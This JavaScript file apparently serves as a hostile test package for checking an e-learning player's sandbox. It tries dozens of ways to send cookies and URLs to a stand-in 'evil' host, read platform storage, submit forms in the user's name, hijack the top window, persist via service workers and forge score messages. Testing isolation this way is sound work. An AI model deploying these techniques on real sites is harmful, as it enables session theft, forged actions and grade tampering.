/* A package that wants what is not its own. Each attempt returns what it won, or nothing; what was won is listed in the
 * page. `TARGETS` tells it what an attacker could only guess: {platform, shell, evil, other: {origin, wrapper, file}, action}.
 * Whatever reaches `evil` is counted there by its path.
 */
const T = window.TARGETS;
const wrapper = window.parent;
const token = location.pathname.split("/")[2];
const gone = (name) => `${T.evil}/${name}?data=${encodeURIComponent(document.cookie + location.href)}`;
const wait = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
const within = (ms, promise) => Promise.race([promise, wait(ms).then(() => "")]);

function element(name, attributes, place = document.body) {
  const found = place.ownerDocument.createElement(name);
  for (const [key, value] of Object.entries(attributes)) found.setAttribute(key, value);
  place.append(found);
  return found;
}

function loaded(target, ms = 1500) {
  const heard = new Promise((resolve) => {
    target.addEventListener("load", () => resolve("loaded"));
    target.addEventListener("error", () => resolve(""));
  });
  return within(ms, heard);
}

async function frameOf(attributes, place = document.body) {
  const found = element("iframe", attributes, place);
  await loaded(found);
  return found;
}

// Every way to send a request that a document has, tried in the realm of `view`; a test counts what arrives. A policy
// is either there or not: of many documents the first few ways tell as much.
function sendAll(view, name, most = Infinity) {
  const at = (way) => gone(`${name}-${way}`);
  const root = view.document.documentElement;
  const link = (rel, more = {}) => () => element("link", { rel, href: at(rel), ...more }, root);
  const source = (tag, attribute) => () => element(tag, { [attribute]: at(tag) }, root);
  const tries = [
    () => view.fetch(at("fetch"), { mode: "no-cors" }).catch(() => 0),
    () => view.fetchLater(at("later"), { activateAfter: 0 }),
    () => view.navigator.sendBeacon(at("beacon"), "x"),
    () => new view.WebSocket(`${T.evil.replace("http", "ws")}/${name}-socket`),
    () => new view.EventSource(at("source")),
    () => new view.Worker(at("worker")),
    () => new view.SharedWorker(at("shared")),
    () => (new view.Image().src = at("image")),
    () => new view.FontFace("evil", `url(${at("font")})`).load().catch(() => 0),
    () => view.eval(`import(${JSON.stringify(at("module"))}).catch(() => 0)`),
    () => (element("p", {}, root).style.background = `url("${at("css")}")`),
    ...["script", "iframe", "video", "audio", "embed"].map((tag) => source(tag, "src")),
    source("object", "data"),
    ...["stylesheet", "manifest", "prefetch", "prerender", "preconnect", "modulepreload", "icon"].map((rel) => link(rel)),
    link("preload", { as: "image" }),
    () => {
      const request = new view.XMLHttpRequest();
      request.open("GET", at("xhr"));
      request.send();
    },
    () => {
      const target = element("iframe", { name: `${name}-target` }, root);
      element("form", { action: at("form"), method: "post", target: target.name }, root).submit();
    },
    () => element("iframe", { srcdoc: `<meta http-equiv="refresh" content="0;url=${at("refresh")}">` }, root),
    () => {
      const urls = [at("rules")];
      const rules = view.document.createElement("script");
      rules.type = "speculationrules";
      rules.textContent = JSON.stringify({ prefetch: [{ urls }], prerender: [{ urls }] });
      root.append(rules);
    },
  ];
  for (const one of tries.slice(0, most)) {
    try {
      one();
    } catch (error) {
      // this way is closed
    }
  }
}
window.sendAll = sendAll;

const SEND_ON = `<script>parent.sendAll(window, "NAME"); parent.sendAll(window, "NAME")</script>`;
const ATTEMPTS = {
  // ---------------------------------------------------------------- read what others have
  "the player's document": () => top.document.title,
  "the player's storage": () => top.localStorage.length + top.sessionStorage.length + 1,
  "the player's variables": () => ["play", "journal", "held", "texts"].find((name) => top[name] !== undefined),
  "what opened the player": () => top.opener && top.opener.document.title,
  "the address of the player": () => top.location.href,
  "the frame around the wrapper": () => wrapper.frameElement && wrapper.frameElement.outerHTML,
  "the parent of the wrapper": () => wrapper.parent !== wrapper && wrapper.parent.document.title,
  "a common domain": () => {
    document.domain = "content.localhost";
    return top.document.title;
  },
  "the player's journal": async () => (await indexedDB.databases()).map((one) => one.name).join(),
  "what others keep": async () => (await caches.keys()).join(),
  "somebody's storage": () => Object.keys(localStorage).filter((key) => key.indexOf("palier.") !== 0 && key !== "mine").join(),
  "somebody's cookies": () => document.cookie,
  "cookies of the platform": async () => window.cookieStore && (await cookieStore.getAll()).map((one) => one.name).join(),
  "the platform by fetch": async () => (await fetch(`${T.platform}/my`, { credentials: "include", mode: "no-cors" })).type,
  "the platform in a frame": async () => (await frameOf({ src: `${T.platform}/my` })).contentDocument?.body.innerText,
  "the player in a frame": async () => (await frameOf({ src: `${T.shell}/launch` })).contentDocument?.body.innerText,
  "data of the player": async () => (await fetch(`${T.shell}/trace/words/en`, { mode: "no-cors" })).type,
  "scripts of the player": () => loaded(element("script", { src: `${T.shell}/trace/words/en` })),
  "another package by fetch": async () => (await fetch(T.other.file, { mode: "no-cors" })).type,
  "another package by image": () => loaded(element("img", { src: T.other.file })),
  "another package in a frame": async () => (await frameOf({ src: T.other.wrapper })).contentDocument?.body.innerText,
  "its own file by another's right": async () => {
    const answer = await fetch(`/r/${T.other.token}/one.html`);
    return answer.ok && answer.url;
  },
  "calls at its own host": async () => {
    const paths = ["/launch", "/commit", "/lease", "/heartbeat", "/trace", "/keep", "/kept", "/my", "/profile"];
    const headers = { "Content-Type": "application/json", Authorization: `Bearer ${token}` };
    const ask = async (path) => (await fetch(path, { method: "POST", headers, body: JSON.stringify({ code: token }) })).ok;
    const found = await Promise.all(paths.map(ask));
    return paths.filter((_, place) => found[place]).join();
  },

  // ---------------------------------------------------------------- act in the person's name
  "a call to the player": async () => {
    const headers = { "Content-Type": "application/json", Authorization: `Bearer ${token}` };
    return (await fetch(`${T.shell}/lease`, { method: "POST", headers, body: "{}" })).status;
  },
  "a beacon to the player": () => {
    navigator.sendBeacon(`${T.shell}/heartbeat`, new Blob(["{}"], { type: "application/json" }));
  },
  "a post to the platform": async () => {
    const body = new URLSearchParams({ wish: "again" });
    const answer = await fetch(T.action, { method: "POST", credentials: "include", mode: "no-cors", body });
    return answer.type;
  },
  "forms to the platform": async () => {
    for (const action of [`${T.platform}/sign-out`, T.action, `${T.shell}/lease`]) {
      const target = element("iframe", { name: `to ${action}` });
      element("form", { action, method: "post", target: target.name }).submit();
      element("form", { action, method: "post", target: "_blank" }).submit();
    }
  },
  "a socket to the platform": () =>
    new Promise((resolve, reject) => {
      const socket = new WebSocket(T.platform.replace("http", "ws"));
      socket.onopen = () => resolve("open");
      socket.onerror = reject;
    }),

  // ---------------------------------------------------------------- get away
  "other hosts": () => sendAll(window, "plain"),
  "other hosts from the wrapper": () => sendAll(wrapper, "wrapper"),
  "other hosts from an empty frame": async () => sendAll((await frameOf({})).contentWindow, "empty"),
  "other hosts from a frame of text": () => frameOf({ srcdoc: SEND_ON.replace(/NAME/g, "srcdoc") }).then(() => ""),
  "other hosts from a frame of bytes": () => {
    const page = new Blob([SEND_ON.replace(/NAME/g, "blob")], { type: "text/html" });
    return frameOf({ src: URL.createObjectURL(page) }).then(() => "");
  },
  "other hosts from a frame of data": () => {
    const page = `<img src="${gone("data-image")}"><script>fetch("${gone("data-fetch")}"); location = "${gone("data-go")}"</script>`;
    return frameOf({ src: `data:text/html,${encodeURIComponent(page)}` }).then(() => "");
  },
  "other hosts by a script address": () => frameOf({ src: `javascript:parent.sendAll(window, "script")` }).then(() => ""),
  "other hosts from files that are no pages": async () => {
    const files = ["data.json", "text.txt", "style.css", "drawing.svg", "tool.exe", "missing.html", "hostile.js", "paper.xml"];
    const ours = ["/", "/w/x/", "/blank", "/favicon.ico", "/sw.js", "/launch", "/r/x/y", `//${location.host}//`];
    const long = ["long.html?" + "a".repeat(300000), "/?" + "b".repeat(1200000), "%00", "%"];
    for (const [place, src] of [...files, ...ours, ...long].entries()) {
      frameOf({ src }).then((frame) => frame.contentDocument && sendAll(frame.contentWindow, `file${place}`, 3));
    }
    await wait(1500);
  },
  "other hosts by a worker": () => {
    const text = `fetch("${gone("worker-fetch")}"); importScripts("${gone("worker-import")}")`;
    const found = new Worker(URL.createObjectURL(new Blob([text], { type: "text/javascript" })));
    new Worker("worker.js");
    return new Promise((resolve) => (found.onerror = () => resolve("")));
  },
  "a window without a click": () => {
    element("a", { href: gone("window-link"), target: "_blank" }).click();
    return window.open(gone("window")) && "a window";
  },
  "the whole window": () => {
    const ways = [
      () => (top.location = gone("top")),
      () => (top.location.href = gone("top-address")),
      () => top.location.replace(gone("top-replace")),
      () => (top.location = "javascript:document.title = 'ours'"),
      () => window.open(gone("top-open"), "_top"),
      () => element("a", { href: gone("top-link"), target: "_top" }).click(),
      () => element("form", { action: gone("top-form"), target: "_top" }).submit(),
      () => top.close(),
      () => history.go(-2),
      () => top.history.back(),
    ];
    ways.forEach((way) => {
      try {
        way();
      } catch (error) {
        // this way is closed
      }
    });
  },
  "the window from a frame of its own": async () => {
    document.querySelectorAll("iframe").forEach((frame) => frame.removeAttribute("sandbox"));
    const frame = await frameOf({ src: "text.txt" }, wrapper.document.body);
    frame.contentWindow.eval(`top.location = ${JSON.stringify(gone("top-wrapper"))}`);
  },
  "the screen without a click": () => document.documentElement.requestFullscreen().then(() => "full screen"),

  // ---------------------------------------------------------------- stay
  "a worker for good": async () => {
    const scripts = ["hostile.js", "worker.js", "data:text/javascript,1", URL.createObjectURL(new Blob(["1"]))];
    scripts.push(...[...wrapper.document.scripts].map((script) => script.src), "/w/" + token + "/", "/blank");
    const registered = async (script) => {
      const found = await navigator.serviceWorker.register(script).catch(() => null);
      return found && script;
    };
    const found = await Promise.all(scripts.map(registered));
    return found.filter(Boolean).join();
  },

  // ---------------------------------------------------------------- pretend to be somebody else
  "messages to the player": () => {
    const { port1, port2 } = new MessageChannel();
    const change = { kind: "change", number: 0, activity: "hostile", element: "cmi.core.score.raw", value: "100" };
    for (const message of [{ palier: "ready", kept: [change] }, { palier: "start" }, change, { kind: "finish" }]) {
      top.postMessage(message, "*", []);
      wrapper.eval(`window.top.postMessage(${JSON.stringify(message)}, "*")`);
    }
    top.postMessage({ palier: "start", lease: "x" }, "*", [port2]);
    wrapper.postMessage({ palier: "start", lease: "x", next: 0 }, "*");
    return new Promise((resolve) => (port1.onmessage = () => resolve("a port")));
  },
};

async function attempt(name) {
  try {
    return await within(3000, ATTEMPTS[name]());
  } catch (error) {
    return "";
  }
}

async function runAll() {
  const names = Object.keys(ATTEMPTS);
  const won = await Promise.all(names.map(attempt));
  const list = document.getElementById("report");
  names.forEach((name, place) => {
    if (won[place]) list.append(Object.assign(document.createElement("li"), { textContent: `${name}: ${won[place]}` }));
  });
  list.dataset.done = names.length;
}
runAll();
